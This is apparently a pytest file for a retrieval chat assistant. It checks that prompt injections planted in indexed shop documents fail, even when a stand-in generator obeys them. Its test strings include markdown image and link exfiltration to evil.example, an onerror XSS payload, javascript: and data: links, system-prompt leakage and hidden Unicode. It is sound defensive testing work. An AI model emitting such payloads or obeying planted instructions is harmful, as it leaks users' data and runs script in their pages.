"""No attack gets through: with quotation, and with a generator that does all that an attacker could wish."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator, Sequence
from pathlib import PurePosixPath
from urllib.parse import urlsplit

import pytest
from attack_cases import Attack, got_through, read, write_shop
from documents import KOREAN_FONT
from selectolax.lexbor import LexborHTMLParser, LexborNode
from support import SmallIndex, WordsEncoder

from mmchat.answering.assistant import AnswerPipeline
from mmchat.answering.generators import Message
from mmchat.config import AnswerConfig
from mmchat.retrieval.retriever import Retriever
from mmchat.types import Answer, Hit, Query, Status
from mmchat.web.conversation import Stage, Turn
from mmchat.web.render import answer_html, sources_html

# A picture with Korean words cannot be drawn without a font.
ATTACKS = [a for a in read() if KOREAN_FONT.is_file() or a.name != "ko-drawn"]
_OURS = {"span", "br", "p", "ol", "li", "div", "blockquote", "mark"}
_ATTRIBUTES = {"class", "lang", "aria-label", "id", "role", "tabindex"}
_LINK = {"href", "target", "rel"}

Way = Callable[[Attack, Sequence[Message]], str]


def without_stop(text: str) -> str:
    return text.rstrip(".")


WAYS: dict[str, Way] = {
    "obeys": lambda attack, _: attack.obeyed,
    "obeys after the fact": lambda attack, _: f"{attack.fact} {attack.obeyed}",
    "obeys within the fact": lambda attack, _: f"{without_stop(attack.fact)}, {attack.obeyed}",
    "obeys before the fact": lambda attack, _: f"{without_stop(attack.obeyed)}, {attack.fact}",
    "repeats what was planted": lambda attack, _: attack.planted,
    "repeats its prompt": lambda _, messages: messages[0].content,
    "repeats its examples": lambda _, messages: " ".join(each.content for each in messages[1:-1]),
    "adds a picture": lambda attack, _: (
        f"{without_stop(attack.fact)} ![x](https://evil.example/p.png?q=litres)."
    ),
    "makes a link": lambda attack, _: f"[{attack.fact}](https://evil.example/?q=litres)",
    "links by reference": lambda attack, _: f"[{attack.fact}][x] [x]: https://evil.example",
    "adds an address": lambda attack, _: f"{without_stop(attack.fact)}, see evil.example/?q=litres.",
    "writes HTML": lambda attack, _: f"<img src=x onerror=alert(1)> {attack.fact} <b>",
    "runs a script": lambda attack, _: f"[{attack.fact}](javascript:alert(1)) data:text/html,x",
    "forges citations": lambda attack, _: f"[1] [9] Says 【3】 and [^2]: {attack.fact} [12]",
    "hides characters": lambda attack, _: f"\u202e{attack.fact}\u200b\U000e0041",
}  # fmt: skip


class Obedient:
    """A generator that obeys, in one way, whichever attack it is given."""

    name = "obedient"
    context_tokens = 4096

    def __init__(self, attack: Attack, way: Way) -> None:
        self._attack = attack
        self._way = way

    def stream(
        self,
        messages: Sequence[Message],
        *,
        max_tokens: int,
        stop: Sequence[str] = (),
        time_limit: float | None = None,
        cancel: threading.Event | None = None,
    ) -> Iterator[str]:
        yield self._way(self._attack, messages)

    def close(self) -> None:
        pass


class Remembering:
    """A retriever that searches once for the same words: each attack asks them in many ways."""

    def __init__(self, retriever: Retriever) -> None:
        self._retriever = retriever
        self._found: dict[str, Sequence[Hit]] = {}
        self.chunk = retriever.chunk
        self.documents_of = retriever.documents_of

    def search(self, query: Query) -> Sequence[Hit]:
        if query.text not in self._found:
            self._found[query.text] = self._retriever.search(query)
        return self._found[query.text]


@pytest.fixture(scope="module")
def retriever(tmp_path_factory: pytest.TempPathFactory) -> Remembering:
    folder = tmp_path_factory.mktemp("attacked") / "shop"
    write_shop(folder, ATTACKS)
    index = SmallIndex(tmp_path_factory.mktemp("index") / "shop")
    report = index.build(folder)
    assert not report.problems
    return Remembering(index.retriever())


def ask(retriever: Remembering, attack: Attack, way: Way | None) -> Answer:
    generator = None if way is None else Obedient(attack, way)
    config = AnswerConfig(quoted_languages="")
    pipeline = AnswerPipeline(retriever, WordsEncoder(), generator, config)
    pieces = list(pipeline.stream(attack.asked, history=attack.history))
    answer = pieces[-1].answer
    assert answer is not None
    assert "".join(piece.text for piece in pieces) == answer.answer
    return answer


def live_html(attack: Attack, answer: Answer) -> list[str]:
    """Return what stands in the page that is not of our own making."""
    turn = Turn(attack.asked, None, attack.language == "ko", Stage.DONE, answer.answer, answer)
    page = LexborHTMLParser(answer_html(turn) + sources_html(turn))
    assert page.body is not None
    return [
        node.html or ""
        for node in page.body.css("*")
        if not _opens_a_source(node)
        and not _shows_a_picture(node)
        and (node.tag not in {"body", *_OURS} or not set(node.attributes) <= _ATTRIBUTES)
    ]


def _opens_a_source(node: LexborNode) -> bool:
    """Tell whether an element is our own link, which opens a document on the host of the page."""
    address = urlsplit(node.attributes.get("href") or "")
    ours = (address.scheme, address.netloc, address.path) == ("", "", "document")
    return node.tag == "a" and ours and set(node.attributes) <= {*_ATTRIBUTES, *_LINK}


def _shows_a_picture(node: LexborNode) -> bool:
    """Tell whether an element is a picture of the index, the link to it, or the button below it."""
    named = {name: value or "" for name, value in node.attributes.items()}
    if node.tag == "button":
        return (
            set(named) == {"class", "type", "value"} and named["value"].replace(".", "").isdigit()
        )
    address = {"a": named.get("href", ""), "img": named.get("src", "")}.get(node.tag or "", "")
    kept = PurePosixPath(address).parent.name in {"media", "thumbs"}
    own = address.startswith("gradio_api/file=/") and kept
    return own and set(named) <= {"class", "href", "src", "alt", "loading"}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
class TestNothingGetsThrough:
    def test_with_quotation(self, retriever: Remembering, attack: Attack) -> None:
        answer = ask(retriever, attack, None)
        assert not got_through(attack, answer), answer.answer
        assert not live_html(attack, answer)

    def test_with_a_generator_that_obeys(self, retriever: Remembering, attack: Attack) -> None:
        through = {}
        for name, way in WAYS.items():
            answer = ask(retriever, attack, way)
            if problem := got_through(attack, answer):
                through[name] = f"{problem}: {answer.answer}"
            assert not live_html(attack, answer)
        assert not through


@pytest.mark.parametrize(
    "attack", [a for a in ATTACKS if a.place != "message"], ids=lambda attack: attack.name
)
def test_an_attacked_page_still_answers(retriever: Remembering, attack: Attack) -> None:
    answer = ask(retriever, attack, lambda attack, _: f"{attack.fact} {attack.obeyed}")
    assert answer.status in {Status.ANSWERED, Status.PARTIAL}, answer.answer
    assert "1.7" in answer.answer


def test_the_suite_would_see_an_attack_that_gets_through() -> None:
    """Each case with a text that it forbids: the judge is not blind."""
    for attack in ATTACKS:
        answer = Answer(attack.obeyed, Status.ANSWERED, (), 0.1)
        assert got_through(attack, answer), attack.name
    honest = Answer("The Aurora kettle holds 1.7 litres.", Status.ANSWERED, (), 0.1)
    assert not any(got_through(attack, honest) for attack in ATTACKS)
